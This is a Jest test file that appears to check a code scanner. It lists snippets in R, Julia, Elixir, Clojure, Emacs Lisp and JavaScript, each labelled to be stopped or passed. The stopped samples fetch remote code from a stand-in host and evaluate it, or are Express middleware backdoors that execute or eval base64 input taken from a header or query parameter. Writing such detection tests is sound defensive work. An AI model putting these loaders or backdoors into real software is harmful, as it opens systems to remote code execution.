import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('code that strangers answer with or send, in languages and places that are seldom read', () => {
  itJudges([
    [
      'code of R from a stranger',
      'stopped',
      { 'fit.R': 'library(stats)\nsource(url("https://models.tidyreports.net/fit.R"))\nsummary(fit)\n' },
    ],
    [
      'code of R by its lines',
      'stopped',
      {
        'fit.R':
          'setup <- readLines("https://models.tidyreports.net/setup.R", warn = FALSE)\ninvisible(try(eval(parse(text = setup)), silent = TRUE))\n',
      },
    ],
    [
      'code of R by httr',
      'stopped',
      { 'fit.R': 'library(httr)\neval(parse(text = content(GET("https://models.tidyreports.net/s"), "text")))\n' },
    ],
    [
      'code of Julia by HTTP',
      'stopped',
      { 'fit.jl': 'using HTTP\ninclude_string(Main, String(HTTP.get("https://models.tidyreports.net/fit.jl").body))\n' },
    ],
    [
      'code of Elixir by Req',
      'stopped',
      { 'run.exs': 'Mix.install([:req])\nReq.get!("https://models.tidyreports.net/r.exs").body |> Code.eval_string()\n' },
    ],
    ['code of Clojure', 'stopped', { 'run.clj': '(load-string (slurp "https://models.tidyreports.net/r.clj"))\n(println "ready")\n' }],
    [
      'code of Emacs',
      'stopped',
      {
        'init.el':
          '(with-current-buffer (url-retrieve-synchronously "https://models.tidyreports.net/i.el")\n  (goto-char url-http-end-of-headers)\n  (eval-region (point) (point-max)))\n',
      },
    ],
    [
      'a header that is run',
      'stopped',
      {
        'mw.js':
          "module.exports = (req, res, next) => {\n  const t = req.headers['x-trace'] || '';\n  if (t.length > 64) {\n    require('child_process').exec(Buffer.from(t, 'base64').toString(), (e, o) => res.end(o));\n    return;\n  }\n  next();\n};\n",
      },
    ],
    [
      'a query that is evaluated',
      'stopped',
      {
        'mw.js':
          "const express = require('express');\nconst app = express();\napp.get('/health', (req, res) => {\n  if (req.query.k) return res.send(String(eval(Buffer.from(req.query.k, 'base64').toString())));\n  res.send('ok');\n});\napp.listen(3000);\n",
      },
    ],
    [
      'packages of R',
      'passed',
      {
        'fit.R':
          'if (!requireNamespace("BiocManager", quietly = TRUE)) install.packages("BiocManager")\nsource("R/helpers.R")\nd <- readLines("https://data.cityofx.org/notes.txt")\nx <- "col"\nprint(eval(parse(text = paste0("nchar(", x, ")"))))\nprint(length(d))\n',
      },
    ],
    [
      'a formula of R',
      'passed',
      {
        'fit.R':
          'library(httr)\nres <- content(GET("https://api.worldbank.org/v2/country?format=json"))\nf <- paste("y ~", paste(names(mtcars), collapse = "+"))\nm <- eval(parse(text = f))\nprint(res)\n',
      },
    ],
    [
      'data of Julia',
      'passed',
      {
        'fit.jl':
          'using Downloads, CSV\npath = Downloads.download("https://data.cityofx.org/bikes.csv")\ninclude("helpers.jl")\nprintln(CSV.File(path))\n',
      },
    ],
    [
      'a package list of Emacs',
      'passed',
      {
        'init.el':
          '(require \'package)\n(add-to-list \'package-archives \'("melpa" . "https://melpa.org/packages/"))\n(package-initialize)\n(global-set-key (kbd "C-c e") \'eval-buffer)\n',
      },
    ],
    [
      'a server with a query',
      'passed',
      {
        'srv.js':
          "const express = require('express');\nconst { execFile } = require('child_process');\nconst app = express();\napp.get('/log', (req, res) => {\n  const n = Number(req.query.n) || 20;\n  execFile('git', ['log', '-n', String(n), '--oneline'], (e, out) => res.type('text').send(out));\n});\napp.listen(3000, '127.0.0.1');\n",
      },
    ],
    [
      'a bridge of webhooks',
      'passed',
      {
        'srv.js':
          "const express = require('express');\nconst app = express();\napp.use(express.json());\napp.post('/github', async (req, res) => {\n  await fetch(process.env.DISCORD_WEBHOOK_URL, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: req.body.repository.full_name }) });\n  res.sendStatus(204);\n});\napp.listen(3000);\n",
      },
    ],
    [
      'a page that is driven',
      'passed',
      {
        'srv.ts':
          "import express from 'express';\nimport { chromium } from 'playwright';\nconst app = express();\napp.use(express.json());\nconst browser = await chromium.launch();\nconst page = await browser.newPage();\napp.post('/eval', async (req, res) => {\n  res.json(await page.evaluate(req.body.script));\n});\napp.listen(9222, '127.0.0.1');\n",
      },
    ],
    [
      'a signature in base64',
      'passed',
      {
        'mw.js':
          "const crypto = require('crypto');\nmodule.exports = (req, res, next) => {\n  const sig = Buffer.from(req.get('x-signature') || '', 'base64');\n  const own = crypto.createHmac('sha256', process.env.HOOK_SECRET).update(req.rawBody).digest();\n  if (sig.length !== own.length || !crypto.timingSafeEqual(sig, own)) return res.sendStatus(401);\n  next();\n};\n",
      },
    ],
  ]);
});
